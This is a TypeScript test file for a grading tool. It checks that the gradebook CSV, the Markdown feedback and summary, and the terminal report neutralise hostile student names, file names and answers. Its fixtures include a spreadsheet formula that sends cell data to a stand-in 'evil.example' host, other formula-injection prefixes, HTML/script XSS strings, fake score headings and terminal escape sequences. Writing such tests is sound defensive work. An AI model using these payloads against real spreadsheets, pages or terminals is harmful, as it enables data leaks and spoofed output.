import { parse } from "csv-parse/sync";
import { Lexer, type Token } from "marked";
import { describe, expect, it } from "vitest";
import { graded, question, result } from "../fixtures/results.js";
import { feedbackMarkdown, textReport } from "./feedback.js";
import { gradebookCsv } from "./gradebook.js";
import { keyResults } from "./student-key.js";
import { summaryMarkdown } from "./summary.js";
import { csvTextCell, markdownCode, markdownInline } from "./untrusted-text.js";

/** Every token of a Markdown text, nested ones included. */
function tokens(markdown: string): Token[] {
  const all: Token[] = [];
  const walk = (list: Token[]) => {
    for (const t of list) {
      all.push(t);
      const inner = (t as { tokens?: Token[]; items?: Token[] }).tokens ?? [];
      walk(inner);
      walk((t as { items?: Token[] }).items ?? []);
    }
  };
  walk(Lexer.lex(markdown));
  return all;
}

const attacks = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "ok\u0000\u0007\u001b[31mred",
  'plain, "quoted"\nnext line',
];

describe("csvTextCell", () => {
  it("neutralises what a spreadsheet would run, removes control characters, keeps the text", () => {
    expect(attacks.map(csvTextCell)).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
      "'+1+2",
      "'-2+3",
      "'@SUM(1+1)",
      "'\t=1+1",
      "'\r=1+1",
      "ok[31mred",
      'plain, "quoted"\nnext line',
    ]);
  });

  it("a gradebook of hostile names and ids parses back to one row each, none a formula", () => {
    const hostile = attacks.map((text, i) =>
      graded(`${text}.yaml`, result(`${text}-${i}`, text, [question("q1.1", 1, 1, "passed")])),
    );
    const csv = gradebookCsv(keyResults(hostile));
    expect(csv).not.toMatch(/[^\P{Cc}\t\n\r]/u);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(attacks.length);
    for (const [i, row] of rows.entries()) {
      for (const cell of [row.student_id!, row.name!, row.file!]) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(row.name).toBe(csvTextCell(attacks[i]!));
      expect(row["q1.1"]).toBe("1");
    }
  });
});

describe("Markdown outputs", () => {
  const name =
    "Eve\n\n# Score: 9 / 9\n<img src=x onerror=alert(1)> **full marks** [link](http://x)";
  const eve = result("s-1`x", name, [
    question(
      "q1.1",
      0,
      1,
      "failed",
      "network: layer 1: unknown name 'e'\n# Score: 9/9\n<b>x</b>\n```\n",
    ),
  ]);

  it("feedback shows a student's name and quoted answers as text: one heading, no HTML", () => {
    const md = feedbackMarkdown(eve);
    const all = tokens(md);
    expect(all.filter((t) => t.type === "html")).toEqual([]);
    expect(all.filter((t) => t.type === "link")).toEqual([]);
    expect(all.filter((t) => t.type === "strong").map((t) => t.raw)).toEqual(["**Score: 0 / 1**"]);
    const headings = all.filter((t) => t.type === "heading") as { depth: number; text: string }[];
    expect(headings.map((h) => h.depth)).toEqual([1, 2]);
    // The feedback is one code block holding it verbatim, fence and all.
    const code = all.filter((t) => t.type === "code") as { text: string }[];
    expect(code.map((c) => c.text)).toEqual([eve.questions[0]!.feedback.trim()]);
  });

  it("the summary lists a hostile file name and reason as text", () => {
    const broken = result("", "", [question("q1.1", 0, 1, "invalid", "<script>x</script> # h")]);
    const md = summaryMarkdown(keyResults([graded("a`b <i>.yaml", broken), graded("e.yaml", eve)]));
    const all = tokens(md);
    expect(all.filter((t) => t.type === "html")).toEqual([]);
    expect(md).toContain("- ``a`b <i>.yaml``: \\<script\\>x\\</script\\> \\# h");
  });

  it("markdownInline and markdownCode render as the text itself", () => {
    const text = "1. *a* _b_ `c` [d](e) <f> &amp; # | ~ ! http://x www.y.org z@w.org";
    const paragraph = Lexer.lex(`x ${markdownInline(text)}`)[0] as { tokens: Token[] };
    expect(new Set(paragraph.tokens.map((t) => t.type))).toEqual(new Set(["text", "escape"]));
    // marked keeps an escaped character HTML-encoded in its token's text.
    const entities: Record<string, string> = {
      "&lt;": "<",
      "&gt;": ">",
      "&amp;": "&",
      "&quot;": '"',
    };
    const shown = paragraph.tokens.map((t) =>
      (t as { text: string }).text.replace(/&(lt|gt|amp|quot);/g, (e: string) => entities[e]!),
    );
    expect(shown.join("")).toBe(`x ${text}`);
    const [code] = (Lexer.lex(`x ${markdownCode("a``b")}`)[0] as { tokens: Token[] }).tokens.filter(
      (t) => t.type === "codespan",
    ) as { text: string }[];
    expect(code!.text).toBe("a``b");
  });

  it("the terminal report carries no control characters", () => {
    const evil = result("s1", "\u001b]0;pwned\u0007Eve", [question("q1.1", 1, 1, "passed")]);
    expect(textReport(evil, "f.yaml")).toContain("f.yaml: ]0;pwnedEve (s1)");
  });
});
